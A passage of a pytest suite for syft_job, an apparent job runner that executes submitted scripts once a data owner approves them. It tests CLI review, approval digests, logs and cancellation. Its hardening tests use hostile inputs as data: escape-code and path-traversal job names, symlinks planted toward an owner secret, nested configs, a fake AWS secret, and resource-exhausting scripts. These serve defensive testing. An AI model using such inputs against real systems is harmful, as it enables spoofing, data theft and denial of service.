        base = ["--email", OWNER]
    if "--email" in args:
        base = ["--syftbox-folder", str(syftbox)]
    before = sorted(syftbox.rglob("*"))
    result = cli(*args, *base, input="")
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert message in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    assert sorted(syftbox.rglob("*")) == before  # a mistake creates nothing


@pytest.mark.slow
def test_read_only_commands_create_nothing(syftbox, tmp_path):
    runner = syft_job.create_runner(syftbox, OWNER)
    make_job(runner, "waiting", "echo hi\n", approved=False)
    new_job(runner, "fresh", "echo hi\n", approve=False)
    work = tmp_path / "work"
    before = sorted(syftbox.rglob("*"))
    for args in (["list"], ["list", "--json"], ["show", "waiting"], ["logs", "waiting"], ["show", "fresh"]):
        result = cli(*args, *site_args(syftbox), "--work-dir", str(work))
        assert result.returncode == (1 if args[0] == "logs" else 0), (args, result.stderr)  # logs: it never ran
    assert sorted(syftbox.rglob("*")) == before and not work.exists()


@pytest.mark.slow
def test_show_is_a_review_view_and_approve_digest_guards_the_review(syftbox):
    runner = syft_job.create_runner(syftbox, OWNER)
    script = "#!/bin/bash\necho \"analysis\"\n" + "".join(f"echo step {i}\n" for i in range(1, 9)) + "echo '\x1b[2K'\n"
    job = make_job(runner, "review me", script, approved=False)
    (job / "code").mkdir()
    (job / "code" / "helper.py").write_text("x = 1\n")
    shown = cli("show", "review me", *site_args(syftbox))
    assert shown.returncode == 0
    out = shown.stdout
    assert "Status:     inbox" in out and "Submitted:  2026-03-02T10:30:00+00:00" in out
    assert all(f"{i + 2}: echo step {i}" in out for i in range(1, 9))  # every line of run.sh
    assert "\x1b" not in out and "11: echo '\\x1b[2K'" in out  # a raw ESC in run.sh is shown, escaped
    assert re.search(r"^  code/helper\.py  6 bytes  [0-9a-f]{64}$", out, re.M)
    assert re.search(r"^  run\.sh  \d+ bytes  [0-9a-f]{64}$", out, re.M)
    digest = re.search(r"^digest: ([0-9a-f]{64})$", out, re.M).group(1)
    assert "Shared:     nothing" in out
    (job / "run.sh").write_text("#!/bin/bash\necho swapped\n")  # between the owner's look and approve
    refused = cli("approve", "review me", "--digest", digest, *site_args(syftbox))
    assert refused.returncode == 2 and f"the digest {digest} does not match" in refused.stderr
    assert not (job / "approved").exists()  # nothing written
    short = cli("approve", "review me", "--digest", digest[:31], *site_args(syftbox))
    assert short.returncode == 2 and "give the whole digest" in short.stderr and not (job / "approved").exists()
    digest = re.search(r"^digest: ([0-9a-f]{64})$", cli("show", "review me", *site_args(syftbox)).stdout, re.M).group(1)
    approved = cli("approve", "review me", "--digest", digest, *site_args(syftbox))
    assert approved.returncode == 0 and f"digest: {digest}" in approved.stdout
    assert json.loads((job / "approved").read_text())["digest"] == digest
    (job / "code" / "helper.py").write_text("x = 2\n")
    changed = cli("show", "review me", *site_args(syftbox)).stdout
    assert "Status:     changed" in changed and "⚠️ Changed since approval: changed: code/helper.py" in changed
    runner.approve_job("review me")
    runner.process_approved_jobs()
    done = cli("show", "review me", *site_args(syftbox)).stdout
    for field in ("Status:     done", "Approved:", f"by {OWNER}", "Started:", "Finished:", "Duration:",
                  "Return code: 0", "--- stdout.txt (last 20 lines) ---\nswapped\n"):
        assert field in done, field


@pytest.mark.slow
def test_list_filters_and_json_rows(syftbox):
    runner = syft_job.create_runner(syftbox, OWNER)
    make_job(runner, "ok", "echo fine\n")
    make_job(runner, "bad", "exit 4\n")
    make_job(runner, "slow", "sleep 30\n", submitter=OTHER)
    make_job(runner, "waiting", "true\n", approved=False)
    runner.process_approved_jobs(skip_job_names=["slow"])
    runner.process_approved_jobs(timeout=0.5)
    runner.share_job_results("ok", share_outputs=False, share_logs=True)
    rows = {r["name"]: r for r in json.loads(cli("list", "--json", *site_args(syftbox)).stdout)}
    assert set(rows["ok"]) >= {"submitter", "name", "status", "submitted_at", "started_at", "finished_at",
                               "duration_s", "return_code", "shared", "isolation", "layout", "reason"}
    assert (rows["ok"]["status"], rows["ok"]["return_code"], rows["ok"]["shared"]) == ("done", 0, ["logs"])
    assert (rows["bad"]["status"], rows["bad"]["return_code"], rows["bad"]["shared"]) == ("failed", 4, [])
    assert (rows["slow"]["status"], rows["slow"]["return_code"]) == ("failed", -1)
    assert "timed out" in rows["slow"]["reason"]
    assert rows["waiting"]["status"] == "inbox" and rows["waiting"]["started_at"] is None
    assert rows["ok"]["started_at"].endswith("Z") and rows["ok"]["duration_s"] >= 0
    failed = json.loads(cli("list", "--json", "--status", "failed", *site_args(syftbox)).stdout)
    assert sorted(r["name"] for r in failed) == ["bad", "slow"]
    theirs = json.loads(cli("list", "--json", "--submitter", OTHER, *site_args(syftbox)).stdout)
    assert [r["name"] for r in theirs] == ["slow"]
    table = cli("list", *site_args(syftbox)).stdout.splitlines()
    assert table[0].split() == ["JOB", "SUBMITTER", "STATUS", "SUBMITTED", "STARTED", "ELAPSED", "DURATION", "RC", "SHARED"]
    assert re.search(r"^ok\s+ds@test\.org\s+done\s+\S+\s+\S+Z\s+\d+\.\d\d s\s+0\s+logs$", "\n".join(table), re.M)


@pytest.mark.slow
def test_once_exit_status_summary_and_one_line_for_jobs_announced_before(syftbox):
    runner = syft_job.create_runner(syftbox, OWNER)
    make_job(runner, "good job", "echo all good\n", approved=False)
    make_job(runner, "bad job", "echo broken >&2\nexit 4\n")
    first = cli("once", *site_args(syftbox))
    assert first.returncode == 1 and "NEW JOB DETECTED: ds@test.org/good job" in first.stdout
    assert "❌ Processed 1 job(s): 0 succeeded, 1 failed" in first.stdout
    second = cli("once", *site_args(syftbox))
    assert second.returncode == 0 and "NEW JOB DETECTED" not in second.stdout
    assert "⏳ Waiting for your review (shown before): ds@test.org/good job" in second.stdout
    assert "No approved jobs to run" in second.stdout
    assert cli("approve", "good job", *site_args(syftbox)).returncode == 0
    third = cli("once", *site_args(syftbox))
    assert third.returncode == 0 and "✅ Processed 1 job(s): 1 succeeded, 0 failed" in third.stdout


@pytest.mark.slow
def test_logs_follow_a_running_job_until_it_ends(syftbox):
    go = go_file(syftbox)
    runner = syft_job.create_runner(syftbox, OWNER)
    make_job(runner, "chatty", f"echo first\n{WAIT_FOR_GO}echo second\necho oops >&2\n")
    worker = threading.Thread(target=runner.process_approved_jobs, kwargs={"stream_output": False})
    worker.start()
    follower = None
    try:
        wait_for(lambda: runner.list_jobs()[0]["status"] == "running")
        follower = subprocess.Popen([sys.executable, "-m", "syft_job", "logs", "chatty", "--follow",
                                     *site_args(syftbox)], stdout=subprocess.PIPE, text=True, env=cli_env())
        assert follower.stdout.readline() == "first\n"
        go.touch()
        assert follower.stdout.read() == "second\n"  # ends when the job ends
        assert follower.wait(timeout=30) == 0
    finally:
        go.touch()
        worker.join(60)
        if follower:
            follower.kill()
    assert cli("logs", "chatty", "--stderr", *site_args(syftbox)).stdout == "oops\n"
    quiet = make_job(runner, "quiet", "echo only-errors >&2\n")
    waiting = make_job(runner, "waiting", "true\n", approved=False)
    for args in (["quiet"], ["waiting"], ["waiting", "--follow"]):  # the last never waits for a job nobody approved
        result = cli("logs", *args, *site_args(syftbox))
        assert result.returncode == 1 and f"{DS}/{args[0]} has not run (it is " in result.stderr, result.stderr
    follower = subprocess.Popen([sys.executable, "-m", "syft_job", "logs", "quiet", "--follow", "--stderr",
                                 *site_args(syftbox)], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, env=cli_env())
    try:  # approved, not started: it says so, and waits for the run
        reader = LineReader(follower)
        reader.wait_for(f"{DS}/quiet is approved: its stderr.txt follows once a runner starts it")
        runner.process_approved_jobs(stream_output=False)
        assert follower.wait(timeout=30) == 0
        reader.wait_for("only-errors")
    finally:
        follower.kill()
    empty = cli("logs", "quiet", *site_args(syftbox))
    assert (empty.returncode, empty.stdout) == (0, "")
    assert f"the stdout.txt of {DS}/quiet is empty; its stderr.txt has 12 bytes (--stderr)" in empty.stderr


@pytest.mark.slow
def test_rerun_runs_a_finished_job_again_with_fresh_results(syftbox):
    runner = syft_job.create_runner(syftbox, OWNER)
    job = make_job(runner, "again", "echo run >> outputs/runs.txt\necho once\n")
    folder, results = new_job(runner, "again v0", "echo run > outputs/r.txt\necho hi\n")
    runner.process_approved_jobs()
    assert cli("rerun", "again", *site_args(syftbox)).returncode == 0
    assert cli("rerun", "again v0", *site_args(syftbox)).returncode == 0
    assert state_of(results)["status"] == "approved" and state_of(results)["return_code"] is None
    assert not (results / "stdout.txt").exists() and not (job / "done").exists()
    assert sorted(r.name for r in runner.process_approved_jobs()) == ["again", "again v0"]
    assert (job / "outputs" / "runs.txt").read_text() == "run\n" and (job / "stdout.txt").read_text() == "once\n"
    assert state_of(results)["status"] == "done"
    waiting = make_job(runner, "waiting", "true\n", approved=False)
    result = cli("rerun", "waiting", *site_args(syftbox))
    assert result.returncode == 2 and "only a finished job can run again" in result.stderr
    assert waiting.exists()


def test_a_done_marker_the_submitter_deletes_does_not_run_the_job_again(runner, capsys):
    job = make_job(runner, "ran", "echo ran >> outputs/log\n")
    runner.process_approved_jobs()
    (job / "done").unlink()
    assert runner.process_approved_jobs() == []
    assert "it already ran for this approval" in capsys.readouterr().out and (job / "done").exists()


@pytest.mark.slow
def test_cancel_stops_a_running_job_and_all_its_processes_from_another_terminal(syftbox):
    runner = syft_job.create_runner(syftbox, OWNER, isolation="none")
    job = make_job(runner, "endless", "setsid sleep 997.1 &\nsleep 997.2\n")
    proc = start_runner_process(syftbox, "runner.process_approved_jobs()", settings="isolation='none'")
    try:
        wait_for(lambda: len(processes_with("997.")) == 2, what="the job to run")
        started = time.monotonic()
        result = cli("cancel", "endless", *site_args(syftbox))
        assert result.returncode == 0 and "Cancelled endless: it is failed now" in result.stdout, result.stdout
        assert time.monotonic() - started < 15
        wait_for(lambda: not processes_with("997."), 10, "every process of the job to stop")
        assert proc.wait(timeout=30) == 0
    finally:
        proc.kill()
        kill_marked("997.")
    row = runner.list_jobs()[0]
    assert (row["status"], row["return_code"], row["reason"]) == ("failed", -1, "cancelled")
    assert "cancelled by the data owner" in (job / "stderr.txt").read_text()
    again = cli("cancel", "endless", *site_args(syftbox))
    assert again.returncode == 2 and "not running" in again.stderr


@pytest.mark.slow
def test_delete_removes_one_job_its_results_and_its_rules(syftbox):
    runner = syft_job.create_runner(syftbox, OWNER)
    runner.add_submitter(DS)
    folder, results = new_job(runner, "gone", "echo x > outputs/x\n")
    keep, _ = new_job(runner, "kept", "true\n")
    runner.process_approved_jobs()
    runner.share_job_results("gone")
    review_rules = runner.job_dir / "review" / DS / "syft.pub.yaml"
    assert "gone/stdout.txt" in review_rules.read_text()
    result = cli("delete", "gone", "--yes", *site_args(syftbox))
    assert result.returncode == 0, result.stderr
    assert not folder.exists() and not results.exists() and keep.exists()
    assert "gone/" not in review_rules.read_text()
    assert [r["name"] for r in runner.list_jobs()] == ["kept"]


@pytest.mark.slow
def test_reset_removes_the_share_rules_it_made_and_asks_first(syftbox):
    runner = syft_job.create_runner(syftbox, OWNER)
    runner.add_submitter(DS)
    new_job(runner, "shared", "echo out\n")
    runner.process_approved_jobs()
    runner.share_job_results("shared")
    cli("once", *site_args(syftbox))
    result = cli("reset", *site_args(syftbox), input="")  # not a terminal: needs --yes
    assert result.returncode == 2
    result = cli("reset", "--yes", *site_args(syftbox))
    assert result.returncode == 0 and "Deleted 1 jobs total" in result.stdout
    assert "Recreating" not in result.stdout and "recreated" not in result.stdout
    review = runner.job_dir / "review" / DS
    assert "shared/" not in (review / "syft.pub.yaml").read_text()
    assert sorted(os.listdir(review)) == ["syft.pub.yaml"]
    assert sorted(os.listdir(runner.job_dir / "inbox" / DS)) == ["syft.pub.yaml"]
    # A resubmitted job of the same name is private again: no rule of the old one is left.
    folder, results = new_job(runner, "shared", "echo new secret\n")
    runner.process_approved_jobs()
    assert not can(syftbox, DS, results / "stdout.txt", "read")


@pytest.mark.slow
def test_reset_asks_on_a_terminal_counts_first_and_takes_eof_as_no(syftbox):
    import pty
    runner = syft_job.create_runner(syftbox, OWNER)
    job = make_job(runner, "keep me", "true", approved=False)
    for answer, status in ((b"no\n", 1), (b"\x04", 1), (b"yes\n", 0)):
        leader, follower = pty.openpty()
        proc = subprocess.Popen([sys.executable, "-m", "syft_job", "reset", *site_args(syftbox)],
                                stdin=follower, stdout=follower, stderr=follower, env=cli_env())
        os.close(follower)
        seen = b""
        while b"Type 'yes' to confirm" not in seen:
            seen += os.read(leader, 1024)
        assert b"Delete all 1 job(s)" in seen
        os.write(leader, answer)
        assert proc.wait(timeout=30) == status
        rest = b""
        with contextlib.suppress(OSError):
            while chunk := os.read(leader, 1024):
                rest += chunk
        os.close(leader)
        assert b"Traceback" not in seen + rest
        assert job.exists() == (status == 1)


def test_a_job_folder_that_cannot_be_read_is_named_and_nothing_is_deleted(syftbox, monkeypatch):
    runner = syft_job.create_runner(syftbox, OWNER)
    jobs = [make_job(runner, f"j{i}", "true\n", approved=False) for i in range(3)]
    os.chmod(jobs[1], 0o000)
    if os.access(jobs[1], os.R_OK):  # root reads every folder: the file system refuses it here instead
        real_scandir = os.scandir

        def scandir(path="."):
            if os.fspath(path) == str(jobs[1]):
                raise PermissionError(13, "Permission denied", os.fspath(path))
            return real_scandir(path)
        monkeypatch.setattr(os, "scandir", scandir)
    try:
        with pytest.raises(syft_job.SyftJobError, match="cannot read the job folder .*j1.*nothing was deleted"):
            runner.reset_all_jobs()
    finally:
        os.chmod(jobs[1], 0o755)
    assert all(job.exists() for job in jobs)


@pytest.mark.slow
def test_a_closed_pipe_ends_quietly(syftbox):
    runner = syft_job.create_runner(syftbox, OWNER)
    make_job(runner, "long", "".join(f"echo {i}\n" for i in range(3000)))
    runner.process_approved_jobs(stream_output=False)
    result = subprocess.run(f"{sys.executable} -m syft_job show long --lines 3000 "
                            f"--syftbox-folder '{syftbox}' --email {OWNER} | head -1",
                            shell=True, capture_output=True, text=True, env=cli_env(), timeout=60)
    assert result.stdout.startswith("Job:") and result.stderr == ""


@pytest.mark.slow
def test_add_submitter_command(syftbox):
    result = cli("add-submitter", DS, *site_args(syftbox))
    assert result.returncode == 0
    assert (syftbox / OWNER / "app_data" / "job" / "inbox" / DS / "syft.pub.yaml").is_file()
    assert (syftbox / OWNER / "app_data" / "job" / "review" / DS / "syft.pub.yaml").is_file()
    nowhere = cli("add-submitter", DS, "--syftbox-folder", str(syftbox), "--email", "typo@test.org")
    assert nowhere.returncode == 2 and not (syftbox / "typo@test.org").exists()  # a typo creates no datasite
    assert nowhere.stderr.strip().endswith(f"the datasites there: {OWNER}")


@pytest.mark.slow
def test_sigterm_during_once_stops_the_job_and_leaves_it_approved(syftbox):
    job = make_job(syft_job.create_runner(syftbox, OWNER), "long", STOPPABLE_JOB.format(tag="5"))
    proc = subprocess.Popen([sys.executable, "-m", "syft_job", "once", *site_args(syftbox)],
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, env=cli_env())
    reader = LineReader(proc)
    try:
        wait_for(lambda: processes_with("993.5"), what="the job's child")
        proc.send_signal(signal.SIGTERM)
        assert proc.wait(timeout=30) == 130
        reader.thread.join(10)
        assert "Interrupted" in reader.text and "Traceback" not in reader.text
        wait_for(lambda: not processes_with("993.5"), 10, "the job to be stopped")
        assert (job / "approved").exists() and not (job / "done").exists()
    finally:
        proc.kill()
        kill_marked("993.5")


@pytest.mark.parametrize("signum, status", [(signal.SIGINT, 130), (signal.SIGTERM, 0)])
@pytest.mark.slow
def test_run_command_stops_cleanly_on_sigint_130_or_sigterm_0(syftbox, signum, status):
    proc = subprocess.Popen([sys.executable, "-m", "syft_job", "run", "--poll-interval", "0.1", *site_args(syftbox)],
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, env=cli_env())
    reader = LineReader(proc)
    try:
        reader.wait_for("Press Ctrl+C to stop")
        proc.send_signal(signum)
        assert proc.wait(timeout=30) == status
        reader.thread.join(10)
        assert "Traceback" not in reader.text and "stopped" in reader.text
    finally:
        proc.kill()


# ---------------------------------------------------------------------------
# Hardening: hostile submissions, secrets, limits, full disks
# ---------------------------------------------------------------------------


@pytest.mark.slow
def test_planted_symlinks_are_never_read_or_followed(runner, tmp_path, capsys):
    secret = tmp_path / "owner-secret.txt"
    secret.write_text("0\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("keep")
    (outside / "syft.pub.yaml").write_text("rules: []\n")
    linked_config = make_job(runner, "linked config", "echo never\n")
    (linked_config / "config.yaml").unlink()
    (linked_config / "config.yaml").symlink_to(secret)
    linked_script = make_job(runner, "linked script", None)
    (linked_script / "run.sh").symlink_to(secret)
    fifos = make_job(runner, "fifos", None)  # a reader that opened these would hang
    os.mkfifo(fifos / "run.sh")
    (fifos / "approved").unlink()
    os.mkfifo(fifos / "approved")
    fifo_config = make_job(runner, "fifo config", "echo never\n")
    (fifo_config / "config.yaml").unlink()
    os.mkfifo(fifo_config / "config.yaml")  # not a file: not a job
    planted = make_job(runner, "planted", "echo hi\n", approved=False)
    for name in ("returncode.txt", "stdout.txt", "done"):
        (planted / name).symlink_to(secret)
    runner.check_for_new_jobs()
    runner.process_approved_jobs(share_outputs_with_submitter=True)
    assert "config.yaml: is a symlink; not read" in (linked_config / "stderr.txt").read_text()
    assert "its run.sh is a symlink or not a file" in (linked_script / "stderr.txt").read_text()
    assert "its run.sh is a symlink or not a file" in (fifos / "stderr.txt").read_text()
    assert not (fifo_config / "stdout.txt").exists()
    assert secret.read_text() == "0\n"
    rows = {r["name"]: r for r in runner.list_jobs()}
    assert "fifo config" not in rows and rows["planted"]["return_code"] is None
    shown = cli("show", "planted", *site_args(runner.config.syftbox_folder))
    assert shown.returncode == 0 and "0\n" not in shown.stdout.split("--- stdout.txt")[1]
    (runner.job_dir / "linked@test.org").symlink_to(outside)
    with pytest.raises(JobError, match="symlink"):
        syft_job._atomic_write(runner.job_dir / "linked@test.org" / "keep.txt", b"overwritten")
    runner.reset_all_jobs()
    assert secret.read_text() == "0\n" and (outside / "keep.txt").read_text() == "keep"


@pytest.mark.slow
def test_hostile_names_are_printed_escaped_and_stay_inside(runner, capsys):
    evil = "evil\n✅ Job approved\x1b[2K\u202eexe.txt"
    long_name = "n" * 255
    for name in (evil, long_name):
        make_job(runner, name, "echo ok\n")
    (runner.job_dir / "x\x1b[31m@test.org").mkdir()
    make_job(runner, "job", "echo ok\n", submitter="x\x1b[31m@test.org")
    runner.check_for_new_jobs()
    runner.process_approved_jobs()
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out
    assert not any(line.startswith("✅ Job approved") for line in out.splitlines())
    assert "🚀 Executing job: evil\\n✅ Job approved\\x1b[2K\\u202eexe.txt" in out
    assert "[do@test.org][evil\\n✅ Job approved\\x1b[2K\\u202eexe.txt] ok" in out
    assert (runner.job_dir / DS / long_name / "stdout.txt").read_text() == "ok\n"
    listing = cli("list", *site_args(runner.config.syftbox_folder)).stdout
    assert "\x1b" not in listing and "evil\\n✅ Job approved" in listing
    for bad in ("..", "../../etc", "a/b"):
        with pytest.raises(JobError):
            runner.approve_job(bad)
        with pytest.raises(JobError):
            runner.share_job_results(bad)


@pytest.mark.slow
def test_hostile_configs_are_refused_without_reading_them_whole(runner, capsys):
    huge = make_job(runner, "huge", "echo never\n")
    with open(huge / "config.yaml", "wb") as f:
        f.truncate(100 * 1024 * 1024)  # 100 MB, sparse: a reader that reads it whole would show
    deep = make_job(runner, "deep", "echo never\n", config="a: " + "[" * 5000 + "]" * 5000 + "\n")
    deep_block = make_job(runner, "deep block", "echo never\n", config="".join(" " * i + "k:\n" for i in range(1200)))
    binary = make_job(runner, "binary", "echo never\n", config="")
    (binary / "config.yaml").write_bytes(os.urandom(4096).replace(b"\n", b"") + b"\xff")
    runner.check_for_new_jobs()
    runner.process_approved_jobs()
    out = capsys.readouterr().out
    assert "config.yaml: is larger than 1 MB; not read" in (huge / "stderr.txt").read_text()
    assert "config.yaml, line 1" in (deep / "stderr.txt").read_text()
    assert "config.yaml, line 101: nested deeper than 100 levels" in (deep_block / "stderr.txt").read_text()
    assert "config.yaml: is not UTF-8 text" in (binary / "stderr.txt").read_text()
    assert "Traceback" not in out and "RecursionError" not in out


def test_a_hostile_tree_is_refused_not_copied_forever(runner, capsys):
    job = make_job(runner, "deep tree", "echo never\n")
    (job / "/".join(["d"] * 80)).mkdir(parents=True)
    [result] = runner.process_approved_jobs()
    assert result.status == "failed" and "nested deeper than 64" in (job / "stderr.txt").read_text()


@pytest.mark.slow
def test_approval_digest_stops_a_job_changed_after_approval(runner, capsys):
    job = make_job(runner, "reviewed", "echo reviewed\n", approved=False)
    (job / "code").mkdir()
    (job / "code" / "helper.py").write_text("x = 1\n")
    assert re.fullmatch(r"[0-9a-f]{64}", runner.approve_job("reviewed"))
    record = json.loads((job / "approved").read_text())
    assert record["approved_by"] == OWNER and sorted(record["files"]) == ["code/helper.py", "config.yaml", "run.sh"]
    (job / "run.sh").write_text("echo evil\n")
    (job / "extra.sh").write_text("echo more\n")
    (job / "code" / "helper.py").unlink()
    runner.process_approved_jobs()
    runner.process_approved_jobs()
    out = capsys.readouterr().out
    assert out.count("is not run") == 1  # said once
    assert ("⏸️ Job ds@test.org/reviewed is not run: its files changed after it was approved "
            "(changed: run.sh; added: extra.sh; removed: code/helper.py). Review it, then approve it again: "
            "syft-job approve reviewed --user ds@test.org") in out
    assert not (job / "stdout.txt").exists() and not (job / "done").exists()
    assert cli("approve", "reviewed", *site_args(runner.config.syftbox_folder)).returncode == 0
    runner.process_approved_jobs()
    assert (job / "stdout.txt").read_text() == "evil\n"


@pytest.mark.slow
def test_strict_mode_runs_only_jobs_approved_with_a_digest(runner, syftbox, capsys):
    plain = make_job(runner, "plain marker", "echo plain\n")
    digest = make_job(runner, "with digest", "echo digest\n", approved=False)
    runner.approve_job("with digest")
    strict = syft_job.create_runner(syftbox, OWNER, require_approval_digest=True)
    strict.process_approved_jobs()
    out = capsys.readouterr().out
    assert "plain marker is not run: it was approved without a digest of its files, and this runner is strict" in out
    assert not (plain / "stdout.txt").exists() and (digest / "stdout.txt").read_text() == "digest\n"
    result = cli("once", "--strict", *site_args(syftbox))
    assert "plain marker is not run" in result.stdout and not (plain / "stdout.txt").exists()
    runner.process_approved_jobs()  # not strict: an empty marker, as other tools write, runs
    assert (plain / "stdout.txt").read_text() == "plain\n"


@pytest.mark.slow
def test_jobs_get_a_minimal_environment_and_what_the_owner_passes(runner, syftbox, monkeypatch):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hunter2-secret")
    monkeypatch.setenv("MY_TOKEN", "token-passed")
    monkeypatch.setenv("UV_INDEX_URL", "https://uv.example")
    monkeypatch.setenv("LC_TIME", "C")
    job = make_job(runner, "env", "env\n")
    runner.process_approved_jobs(stream_output=False)
    names = {line.split("=", 1)[0] for line in (job / "stdout.txt").read_text().splitlines() if "=" in line}
    assert "hunter2-secret" not in (job / "stdout.txt").read_text()
    assert {"UV_INDEX_URL", "LC_TIME", "SYFTBOX_FOLDER"} <= names
    allowed = {"PATH", "HOME", "LANG", "TMPDIR", "TZ", "USER", "SYFTBOX_FOLDER", "SYFTBOX_EMAIL",
               "SYFT_IS_IN_JOB", "PYTHONUNBUFFERED", "SYFT_JOB_RUN_TOKEN", "PWD", "SHLVL", "_", "OLDPWD"}
    assert {n for n in names if not n.startswith(("LC_", "UV_"))} <= allowed
    passing = syft_job.create_runner(syftbox, OWNER, env_passthrough=["MY_TOKEN"])
    again = make_job(runner, "env passed", "echo token=$MY_TOKEN secret=$AWS_SECRET_ACCESS_KEY\n")
    passing.process_approved_jobs(stream_output=False)
    assert (again / "stdout.txt").read_text() == "token=token-passed secret=\n"
    by_cli = make_job(runner, "env cli", "echo token=$MY_TOKEN secret=$AWS_SECRET_ACCESS_KEY\n")
    result = cli("once", "--pass-env", "MY_TOKEN", *site_args(syftbox),
                 env=cli_env(MY_TOKEN="from-cli", AWS_SECRET_ACCESS_KEY="hunter2-secret"))
    assert result.returncode == 0, result.stderr
    assert (by_cli / "stdout.txt").read_text() == "token=from-cli secret=\n"


def test_log_size_limit_cuts_the_log_and_stops_the_job(syftbox, capsys):
    limited = syft_job.create_runner(syftbox, OWNER, max_log_bytes=1001)
    job = make_job(limited, "chatty", "seq 1 100000\nsleep 300\n")
    quick = make_job(limited, "quick", "seq 1 1000\n")  # fits in the pipe: it ends before its log is cut
    limited.process_approved_jobs(timeout=120)
    out = capsys.readouterr().out
    log = (job / "stdout.txt").read_bytes()
    assert log[:1001] == b"".join(b"%d\n" % i for i in range(1, 400))[:1001]
    assert log[1001:] == b"\n--- LOG CUT: it reached the limit of 1001 bytes (max_log_bytes); the job was stopped ---\n"
    assert (job / "returncode.txt").read_text() == "-1"
    assert "its stdout.txt reached the limit of 1001 bytes (max_log_bytes), so it was stopped" in (
        job / "stderr.txt").read_text()
    assert "❌ Job chatty failed: its stdout.txt reached the limit" in out
    for stderr in (job / "stderr.txt", quick / "stderr.txt"):
        assert stderr.read_text().count("reached the limit of 1001 bytes") == 1


@pytest.mark.slow
def test_cpu_and_memory_limits_finish_the_job_with_the_reason(syftbox, capsys):
    limited = syft_job.create_runner(syftbox, OWNER, max_cpu_seconds=1, max_memory_mb=500, isolation="none")
    spin = make_job(limited, "spin", "while :; do :; done\n")
    hog = make_job(limited, "hog", f"'{JOB_PYTHON}' -c 'b = bytearray(2 * 1024 ** 3)'\n")
    limited.process_approved_jobs(timeout=60)
    out = capsys.readouterr().out
    assert int((spin / "returncode.txt").read_text()) != 0
    assert "it used up its CPU time limit of 1 seconds (max_cpu_seconds)" in (spin / "stderr.txt").read_text()
    assert int((hog / "returncode.txt").read_text()) != 0 and "MemoryError" in (hog / "stderr.txt").read_text()
    assert "it ran out of memory under its limit of 500 MB (max_memory_mb)" in (hog / "stderr.txt").read_text()
    assert "❌ Job spin failed: it used up its CPU time limit" in out
    bad = cli("once", "--max-cpu", "-1", *site_args(syftbox))
    assert bad.returncode == 2 and "'-1' is not a positive number" in bad.stderr


def _mount_namespace() -> list[str] | None:
    """A command prefix that runs a program in a private mount namespace, or None."""
    for prefix in (["unshare", "--mount"], ["unshare", "--user", "--map-root-user", "--mount"]):
        try:
            probe = subprocess.run(prefix + ["sh", "-c", "mount -t tmpfs -o size=64k tmpfs /mnt"],
                                   capture_output=True, timeout=30)
        except (OSError, subprocess.TimeoutExpired):
            continue
        if probe.returncode == 0:
            return prefix
    return None


FULL_DISK_DRIVER = r"""
import json, subprocess, sys, syft_job
folder, owner, ds = sys.argv[1:4]
runner = syft_job.create_runner(folder, owner, isolation="none")

def job(name, script, mount=None):
    path = runner.job_dir / ds / name
    path.mkdir(parents=True)
    if mount:
        subprocess.run(["mount", "-t", "tmpfs", "-o", mount, "tmpfs", str(path)], check=True)
    (path / "config.yaml").write_text("name: x\n")
    (path / "run.sh").write_text(script)
    (path / "approved").touch()
    return path

full = job("fills the disk", "head -c 5000000 /dev/zero | tr '\\0' x\necho\nsleep 300\n", mount="size=1m")
fine = job("fine", "echo fine\n")
readonly = job("read only", "echo never\n")
subprocess.run(["mount", "--bind", str(readonly), str(readonly)], check=True)
subprocess.run(["mount", "-o", "remount,bind,ro", str(readonly)], check=True)
runner.process_approved_jobs(timeout=120)
runner.process_approved_jobs(timeout=120)
print(json.dumps({
    "full_stdout_size": (full / "stdout.txt").stat().st_size,
    "full_done": (full / "done").exists(),
    "fine": (fine / "stdout.txt").read_text(),
    "readonly_files": sorted(p.name for p in readonly.iterdir()),
}))
"""


@pytest.mark.slow
def test_a_full_disk_or_read_only_job_folder_stops_that_job_and_the_runner_goes_on(syftbox):
    prefix = _mount_namespace()
    if prefix is None:
        pytest.skip("needs a private mount namespace (unshare) to make a small or read-only file system")
    result = subprocess.run(prefix + [sys.executable, "-c", FULL_DISK_DRIVER, str(syftbox), OWNER, DS],
                            capture_output=True, text=True, timeout=120, env=cli_env())
    assert result.returncode == 0, result.stdout + result.stderr
    out, facts = result.stdout.rsplit("\n", 2)[0], json.loads(result.stdout.splitlines()[-1])
    assert "job ds@test.org/fills the disk was stopped: cannot write its stdout.txt: No space left on device" in out
    assert 0 < facts["full_stdout_size"] <= 1024 * 1024
    assert facts["fine"] == "fine\n"
    assert "ds@test.org/read only is not run: cannot write its" in out and "Read-only file system" in out
    assert out.count("read only is not run") <= 1
    assert facts["readonly_files"] == ["approved", "config.yaml", "run.sh"]
    assert "Traceback" not in result.stdout + result.stderr


# ---------------------------------------------------------------------------
# The module's shape
# ---------------------------------------------------------------------------


def test_functions_are_short_and_flat_and_the_runner_only_runs():
    """No function over 60 lines, no conditional expression inside another, a
    SyftJobRunner of at most 450 lines and a YAML section of at most 300."""
    source = (HERE / "syft_job.py").read_text()
    tree = ast.parse(source)
    long = [f"{node.name} ({node.end_lineno - node.lineno + 1} lines)" for node in ast.walk(tree)
            if isinstance(node, ast.FunctionDef) and node.end_lineno - node.lineno >= 60]
    nested = [f"line {inner.lineno}" for node in ast.walk(tree) if isinstance(node, ast.IfExp)
              for inner in ast.walk(node) if isinstance(inner, ast.IfExp) and inner is not node]
    runner = next(node for node in tree.body if getattr(node, "name", "") == "SyftJobRunner")
    yaml_section = source.split("\n# YAML:")[1].split("\n# Configuration\n")[0]
    assert (long, nested) == ([], [])
    assert runner.end_lineno - runner.lineno + 1 <= 450 and yaml_section.count("\n") <= 300


def test_each_section_of_the_module_uses_only_the_sections_above_it():
    """Read top to bottom, the module never needs what comes later: every name a
    top-level definition uses (annotations aside: never evaluated) is defined once, in
    its own section or one above."""
    source = (HERE / "syft_job.py").read_text()
    lines, tree = source.splitlines(), ast.parse(source)
    banners = [(n + 2, lines[n + 1][2:].split(":")[0]) for n in range(len(lines) - 1)
